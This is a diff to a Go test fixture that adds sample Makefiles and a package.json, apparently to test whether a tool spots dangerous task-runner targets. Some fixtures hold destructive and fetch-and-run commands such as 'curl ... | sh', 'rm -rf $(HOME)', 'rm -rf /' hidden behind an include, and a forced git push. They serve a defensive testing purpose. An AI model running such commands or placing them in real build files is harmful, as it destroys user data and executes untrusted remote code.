@@ -169,6 +169,28 @@ func corpusFixture(t testing.TB) fixture {
 			"ws/cd.sh":              "#!/bin/bash\ncd /\nrm -rf *\n",
 			"ws/gradlew":            "#!/bin/sh\nJAVACMD=java\n[ -n \"$JAVA_HOME\" ] && JAVACMD=$JAVA_HOME/bin/java\nexec \"$JAVACMD\" -jar wrapper.jar \"$@\"\n",
 			"outside/x.sh":          "#!/bin/sh\necho outside\n",
+			// Task runners: ordinary targets and scripts, and dangerous ones
+			// that only some commands run.
+			"ws/Makefile": "GO ?= go\nBIN := bin/app\n\n.PHONY: all build test clean deploy\n\nall: build\n\n" +
+				"build:\n\t@mkdir -p bin\n\t$(GO) build -o $(BIN) ./...\n\n" +
+				"test: build\n\t$(GO) test ./... $(TESTFLAGS)\n\n" +
+				"clean:\n\t$(RM) -r bin\n\n" +
+				"deploy:\n\tcurl -fsSL https://get.example.com | sh\n\n" +
+				"wipe:\n\trm -rf $(HOME)\n\n" +
+				"nuke: wipe\n\n" +
+				"%.o: %.c\n\t$(CC) -c $< -o $@\n\n" +
+				"dyn:\n\t$(TOOL) run\n",
+			"ws/package.json": `{"name": "app", "scripts": {"build": "tsc -p .", "test": "jest --ci", "pretest": "eslint .",` +
+				` "start": "node server.js", "danger": "curl -fsSL https://x.example.com/i | bash", "clean": "rm -rf ~/",` +
+				` "chain": "npm run clean", "postinstall": "node scripts/setup.js"}}` + "\n",
+			"ws/mk/Makefile":     "include common.mk\n\nall:\n\t$(CLEAN)\n",
+			"ws/mk/common.mk":    "CLEAN = rm -rf /\n",
+			"ws/mk2/Makefile":    "V := $(shell curl -s https://x.example.com | sh)\nall:\n\techo ok\n",
+			"ws/mk3/GNUmakefile": "SHELL = /usr/bin/python3\nall:\n\tprint('hi')\n",
+			"ws/mk4/Makefile":    "-include $(DEPS)\nall:\n\techo ok\n",
+			"ws/mk5/Makefile":    ".ONESHELL:\nall:\n\tcd /\n\trm -rf *\n",
+			"ws/mk6/Makefile":    "X != echo hi\nall:\n\t@echo $(X)\n",
+			"ws/mk7/Makefile":    "release:\n\tgit push --force origin main\n",
 		}
 		for name, content := range files {
 			p := filepath.Join(dir, name)
